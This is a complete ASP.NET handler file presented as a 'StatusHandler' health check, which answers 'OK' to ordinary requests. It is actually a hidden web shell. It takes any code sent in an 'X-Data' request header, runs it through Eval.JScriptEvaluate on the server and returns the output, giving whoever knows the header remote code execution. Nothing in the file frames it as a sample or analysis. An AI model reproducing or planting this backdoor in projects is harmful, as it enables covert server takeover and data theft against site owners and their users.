<%@ WebHandler Language="C#" Class="StatusHandler" %>
using System;
using System.Web;
using Microsoft.JScript;
using Microsoft.JScript.Vsa;

public class StatusHandler : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        context.Response.ContentType = "text/plain";
        string h = context.Request.Headers["X-Data"];
        if (String.IsNullOrEmpty(h)) { context.Response.Write("OK"); return; }
        object o = Eval.JScriptEvaluate(h, VsaEngine.CreateEngine());
        context.Response.Write(o);
    }

    public bool IsReusable { get { return false; } }
}
